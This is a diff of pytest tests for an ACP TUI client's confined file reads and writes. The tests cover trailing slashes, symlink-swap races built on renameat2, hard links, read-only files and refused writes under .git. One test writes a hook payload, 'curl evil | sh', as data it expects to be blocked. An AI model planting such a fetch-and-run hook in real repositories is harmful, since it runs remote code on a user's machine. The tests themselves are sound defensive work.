@@ -2,11 +2,17 @@
 
 from __future__ import annotations
 
+import ctypes
 import os
 import stat
+import sys
+import threading
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
 from pathlib import Path
 from typing import Any
 
+import anyio
 import pytest
 
 from acp_tui.client import fs as fs_module
@@ -52,6 +58,25 @@ def entries(directory: Path) -> list[str]:
 
 def resolved(path: Path) -> str:
     return os.path.realpath(path)
+
+
+def read_at(name: str, dir_fd: int) -> bytes:
+    """The content of `name` in the directory open at `dir_fd`."""
+    fd = os.open(name, os.O_RDONLY, dir_fd=dir_fd)
+    try:
+        return os.read(fd, 1 << 20)
+    finally:
+        os.close(fd)
+
+
+def temp_files(top: Path) -> list[str]:
+    """Every writer's temporary file under `top`, symlinks not followed."""
+    return [
+        os.path.join(directory, name)
+        for directory, _, files in os.walk(top)
+        for name in files
+        if name.endswith(".acp-tui.tmp")
+    ]
 
 
 # -- reading ---------------------------------------------------------------------------
@@ -189,14 +214,15 @@ async def test_read_permission_denied_is_internal_error(
     assert caught.value.message == "Permission denied"
 
 
-async def test_negative_line_or_limit_is_invalid_params(
+async def test_negative_line_or_limit_is_a_programming_error(
     access: FileSystemAccess, root: Path
 ) -> None:
+    """The wire never gets here with one: the lenient parse makes it the default
+    (tests/unit/client/test_v1_lenient_params.py)."""
     (root / "a.txt").write_text(LINES)
     for line, limit in [(-1, None), (None, -1)]:
-        with pytest.raises(RpcError) as caught:
+        with pytest.raises(ValueError, match="negative"):
             await access.read_text_file(str(root / "a.txt"), line, limit)
-        assert caught.value.code == INVALID_PARAMS
 
 
 # -- confinement -----------------------------------------------------------------------
@@ -212,6 +238,28 @@ async def test_relative_path_is_rejected(
             await call
         assert caught.value.code == INVALID_PARAMS
         assert "absolute" in caught.value.message
+
+
+@pytest.mark.parametrize("name", ["a.txt/", "a.txt//", "sub/", "new.txt/"])
+async def test_a_trailing_slash_is_rejected(
+    access: FileSystemAccess, root: Path, name: str
+) -> None:
+    """A trailing slash names a directory: never read or write the file before it."""
+    (root / "a.txt").write_text(LINES)
+    (root / "sub").mkdir()
+    path = f"{root}/{name}"
+    for call in (
+        lambda: access.read_text_file(path),
+        lambda: access.write_text_file(path, "x"),
+    ):
+        with pytest.raises(RpcError) as caught:
+            await call()
+        assert caught.value.code == INVALID_PARAMS
+        assert "slash" in caught.value.message
+        assert caught.value.data == path
+    assert (root / "a.txt").read_text() == LINES
+    assert entries(root) == ["a.txt", "sub"]
+    assert entries(root / "sub") == []
 
 
 async def test_nul_in_path_is_rejected(access: FileSystemAccess, root: Path) -> None:
@@ -397,11 +445,11 @@ async def test_write_is_atomic_when_replace_fails(
     target = root / "a.txt"
     target.write_text("original\n")
 
-    def broken_replace(src: str, dst: str) -> None:
-        assert Path(src).read_text() == "new content\n"  # fully written first
+    def broken_rename(src: str, dst: str, **dir_fds: int) -> None:
+        assert read_at(src, dir_fds["src_dir_fd"]) == b"new content\n"  # all written
         raise OSError(5, "Input/output error")
 
-    monkeypatch.setattr(os, "replace", broken_replace)
+    monkeypatch.setattr(os, "rename", broken_rename)
     with pytest.raises(RpcError) as caught:
         await access.write_text_file(str(target), "new content\n")
     assert caught.value.code == INTERNAL_ERROR
@@ -506,6 +554,16 @@ async def test_write_long_file_name(access: FileSystemAccess, root: Path) -> Non
     assert leftovers(root) == []
 
 
+async def test_write_long_multibyte_file_name(
+    access: FileSystemAccess, root: Path
+) -> None:
+    """80 CJK characters are 240 bytes: the temporary name must stay under 255."""
+    target = root / ("字" * 80)
+    await access.write_text_file(str(target), "x")
+    assert target.read_text() == "x"
+    assert leftovers(root) == []
+
+
 async def test_symlink_loop_is_refused(access: FileSystemAccess, root: Path) -> None:
     (root / "loop").symlink_to(root / "loop")
     (root / "ping").symlink_to(root / "pong")
@@ -545,22 +603,22 @@ async def test_write_is_complete_and_fsynced_before_the_rename(
     target = root / "a.txt"
     target.write_text("original\n")
     events: list[str] = []
-    real_fsync, real_replace = os.fsync, os.replace
+    real_fsync, real_rename = os.fsync, os.rename
 
     def fsync(fd: int) -> None:
         events.append("fsync")
         real_fsync(fd)
 
-    def replace(src: str, dst: str) -> None:
-        events.append("replace")
-        assert Path(src).read_text() == "new content\n"
+    def rename(src: str, dst: str, **dir_fds: int) -> None:
+        events.append("rename")
+        assert read_at(src, dir_fds["src_dir_fd"]) == b"new content\n"
         assert target.read_text() == "original\n"  # untouched until the rename
-        real_replace(src, dst)
+        real_rename(src, dst, **dir_fds)
 
     monkeypatch.setattr(os, "fsync", fsync)
-    monkeypatch.setattr(os, "replace", replace)
+    monkeypatch.setattr(os, "rename", rename)
     await access.write_text_file(str(target), "new content\n")
-    assert events[:2] == ["fsync", "replace"]
+    assert events[:2] == ["fsync", "rename"]
     assert target.read_text() == "new content\n"
     assert leftovers(root) == []
 
@@ -603,3 +661,268 @@ async def test_a_root_swapped_for_a_symlink_later_is_checked_again(
         await access.write_text_file(str(root / "c.txt"), "x")
     assert caught.value.code == INVALID_PARAMS
     assert not (root / "c.txt").exists()
+
+
+# -- a directory swapped for a symlink while writes run ------------------------------
+
+RENAME_EXCHANGE = 2
+"""`renameat2` flag: swap two names atomically (Linux 3.15)."""
+
+AT_FDCWD = -100
+
+
+def exchanger() -> Callable[[Path, Path], None] | None:
+    """`swap(a, b)`: exchange two names atomically; None where it is unavailable."""
+    if sys.platform != "linux":
+        return None
+    libc = ctypes.CDLL(None, use_errno=True)
+    renameat2 = getattr(libc, "renameat2", None)
+    if renameat2 is None:
+        return None
+    renameat2.argtypes = [
+        ctypes.c_int,
+        ctypes.c_char_p,
+        ctypes.c_int,
+        ctypes.c_char_p,
+        ctypes.c_uint,
+    ]
+
+    def swap(a: Path, b: Path) -> None:
+        if renameat2(AT_FDCWD, bytes(a), AT_FDCWD, bytes(b), RENAME_EXCHANGE) != 0:
+            error = ctypes.get_errno()
+            raise OSError(error, os.strerror(error))
+
+    return swap
+
+
+@contextmanager
+def swapping(sub: Path, link: Path) -> Iterator[list[int]]:
+    """Another thread swaps `sub` and `link` over and over, as fast as it can,
+    until the block ends; yields `[swaps made]`. Skips without `renameat2`."""
+    swap = exchanger()
+    if swap is None:
+        pytest.skip("needs renameat2(RENAME_EXCHANGE)")
+    stop = threading.Event()
+    swaps = [0]
+
+    def swapper() -> None:
+        while not stop.is_set():
+            swap(sub, link)
+            swaps[0] += 1
+
+    thread = threading.Thread(target=swapper)
+    old_interval = sys.getswitchinterval()
+    sys.setswitchinterval(1e-5)  # interleave the two threads finely
+    thread.start()
+    try:
+        yield swaps
+    finally:
+        stop.set()
+        thread.join()
+        sys.setswitchinterval(old_interval)
+
+
+WRITES = 200
+"""Writes made while another thread swaps a directory for a symlink."""
+
+READS = 500
+"""Reads made while another thread swaps a directory for a symlink."""
+
+
+@pytest.mark.parametrize("depth", ["sub", "sub/deeper"])
+async def test_a_directory_swapped_for_a_symlink_never_redirects_or_litters(
+    access: FileSystemAccess, root: Path, outside: Path, tmp_path: Path, depth: str
+) -> None:
+    """A local process swaps `sub` for a symlink out of the project, over and over,
+    while the agent writes below it: nothing lands outside, no temporary file is
+    left anywhere, and each write either lands in the real `sub` or is refused."""
+    sub = root / "sub"
+    (root / depth).mkdir(parents=True)
+    link = root / "sub-link"
+    link.symlink_to(outside)
+    (outside / "deeper").mkdir()
+    real_inode = sub.stat().st_ino
+    written: list[str] = []
+    refused: list[RpcError] = []
+    with swapping(sub, link) as swaps, anyio.fail_after(60):
+        for n in range(WRITES):
+            content = f"write {n}\n"
+            try:
+                await access.write_text_file(f"{root}/{depth}/file.txt", content)
+            except RpcError as error:
+                refused.append(error)
+            else:
+                written.append(content)
+    assert swaps[0] > 0
+    assert written, "no write got through"
+    assert entries(outside) == ["deeper", "secret.txt"]
+    assert entries(outside / "deeper") == []
+    assert (outside / "secret.txt").read_text() == "top secret\n"
+    assert temp_files(tmp_path) == []
+    assert {error.code for error in refused} <= {INVALID_PARAMS}, refused[:3]
+    real = sub if sub.stat(follow_symlinks=False).st_ino == real_inode else link
+    target = real.joinpath(*Path(depth).parts[1:], "file.txt")
+    assert target.read_text() == written[-1]
+
+
+async def test_a_read_never_follows_a_swapped_directory_out(
+    access: FileSystemAccess, root: Path, outside: Path
+) -> None:
+    """The same swap while reading `sub/secret.txt`: the outside file of that name
+    is never read."""
+    sub = root / "sub"
+    sub.mkdir()
+    (sub / "secret.txt").write_text("inside\n")
+    link = root / "sub-link"
+    link.symlink_to(outside)
+    contents: list[str] = []
+    refused: list[RpcError] = []
+    with swapping(sub, link) as swaps, anyio.fail_after(60):
+        for _ in range(READS):
+            try:
+                contents.append(await access.read_text_file(f"{sub}/secret.txt"))
+            except RpcError as error:
+                refused.append(error)
+    assert swaps[0] > 0
+    assert "inside\n" in contents
+    assert set(contents) == {"inside\n"}
+    assert {error.code for error in refused} <= {INVALID_PARAMS}, refused[:3]
+
+
+async def test_a_hard_link_to_an_outside_file_reads_it_and_a_write_breaks_it(
+    access: FileSystemAccess, root: Path, outside: Path
+) -> None:
+    """The documented limit of the confinement (module docstring, README): a read
+    cannot tell where a file's other names are, so a hard link inside a root
+    reads the outside file; a write replaces the name, never the outside file."""
+    os.link(outside / "secret.txt", root / "linked.txt")
+    assert await access.read_text_file(str(root / "linked.txt")) == "top secret\n"
+    await access.write_text_file(str(root / "linked.txt"), "mine\n")
+    assert (root / "linked.txt").read_text() == "mine\n"
+    assert (outside / "secret.txt").read_text() == "top secret\n"
+    assert (outside / "secret.txt").stat().st_nlink == 1
+
+
+# -- read-only files -------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("mode", [0o444, 0o400, 0o555])
+async def test_a_read_only_file_is_not_replaced(
+    access: FileSystemAccess, root: Path, mode: int
+) -> None:
+    """As an editor would, even for root (the rename ignores the file's mode)."""
+    target = root / "locked.txt"
+    target.write_text("original\n")
+    target.chmod(mode)
+    before = target.stat()
+    with pytest.raises(RpcError) as caught:
+        await access.write_text_file(str(target), "new\n")
+    assert caught.value.code == INTERNAL_ERROR
+    assert "read-only" in caught.value.message
+    assert caught.value.data == str(target)
+    after = target.stat()
+    assert (after.st_ino, after.st_mode) == (before.st_ino, before.st_mode)
+    assert target.read_text() == "original\n"
+    assert leftovers(root) == []
+
+
+async def test_a_read_only_file_behind_a_symlink_is_not_replaced(
+    access: FileSystemAccess, root: Path
+) -> None:
+    (root / "locked.txt").write_text("original\n")
+    (root / "locked.txt").chmod(0o444)
+    (root / "alias.txt").symlink_to(root / "locked.txt")
+    with pytest.raises(RpcError) as caught:
+        await access.write_text_file(str(root / "alias.txt"), "new\n")
+    assert "read-only" in caught.value.message
+    assert (root / "locked.txt").read_text() == "original\n"
+
+
+async def test_a_writable_file_is_replaced_with_its_mode(
+    access: FileSystemAccess, root: Path
+) -> None:
+    target = root / "owner-only.txt"
+    target.write_text("original\n")
+    target.chmod(0o600)
+    await access.write_text_file(str(target), "new\n")
+    assert target.read_text() == "new\n"
+    assert stat.S_IMODE(target.stat().st_mode) == 0o600
+
+
+# -- .git ------------------------------------------------------------------------------
+
+GIT_PATHS = [
+    ".git/hooks/pre-commit",  # a hook runs at the user's next commit
+    ".git/config",  # core.fsmonitor, core.hooksPath, aliases...
+    ".git/info/attributes",
+    ".git",  # a worktree's or submodule's `.git` file
+    "vendor/lib/.git/config",  # a nested repository
+    ".Git/hooks/post-checkout",  # the same directory on a case-insensitive disk
+]
+
+
+@pytest.mark.parametrize("relative", GIT_PATHS)
+async def test_writes_under_git_are_refused(
+    access: FileSystemAccess, root: Path, relative: str
+) -> None:
+    (root / ".git" / "hooks").mkdir(parents=True)
+    (root / ".git" / "config").write_text("[core]\n")
+    path = root / relative
+    with pytest.raises(RpcError) as caught:
+        await access.write_text_file(str(path), "#!/bin/sh\ncurl evil | sh\n")
+    error = caught.value
+    assert error.code == INVALID_PARAMS
+    assert ".git" in error.message
+    assert "allow_git_writes" in error.message
+    assert error.data == str(path)
+    assert (root / ".git" / "config").read_text() == "[core]\n"
+    assert not (root / ".git" / "hooks" / "pre-commit").exists()
+    assert not (root / "vendor").exists()
+    assert not (root / ".Git").exists() or (root / ".Git").samefile(root / ".git")
+    assert temp_files(root) == []
+
+
+async def test_a_symlink_into_git_is_refused_too(
+    access: FileSystemAccess, root: Path
+) -> None:
+    (root / ".git" / "hooks").mkdir(parents=True)
+    (root / "hooks").symlink_to(root / ".git" / "hooks")
+    with pytest.raises(RpcError) as caught:
+        await access.write_text_file(str(root / "hooks" / "pre-push"), "x")
+    assert caught.value.code == INVALID_PARAMS
+    assert not (root / ".git" / "hooks" / "pre-push").exists()
+
+
+@pytest.mark.parametrize(
+    "relative", [".gitignore", ".github/workflows/ci.yml", "git/config", ".git-x/a"]
+)
+async def test_names_that_only_look_like_git_are_written(
+    access: FileSystemAccess, root: Path, relative: str
+) -> None:
+    await access.write_text_file(str(root / relative), "x\n")
+    assert (root / relative).read_text() == "x\n"
+
+
+async def test_git_is_readable(access: FileSystemAccess, root: Path) -> None:
+    (root / ".git").mkdir()
+    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
+    assert await access.read_text_file(str(root / ".git" / "HEAD")) == (
+        "ref: refs/heads/main\n"
+    )
+
+
+async def test_git_writes_when_the_user_allows_them(
+    access: FileSystemAccess, root: Path
+) -> None:
+    hook = root / ".git" / "hooks" / "pre-commit"
+    await access.write_text_file(str(hook), "x\n", allow_git=True)
+    assert hook.read_text() == "x\n"
+
+
+async def test_a_root_inside_a_git_directory_is_not_refused(tmp_path: Path) -> None:
+    """Only `.git` below a root counts: the user chose the root."""
+    root = tmp_path / "bare.git" / ".git" / "work"
+    root.mkdir(parents=True)
+    access = FileSystemAccess(root)
+    await access.write_text_file(str(root / "a.txt"), "x\n")
+    assert (root / "a.txt").read_text() == "x\n"
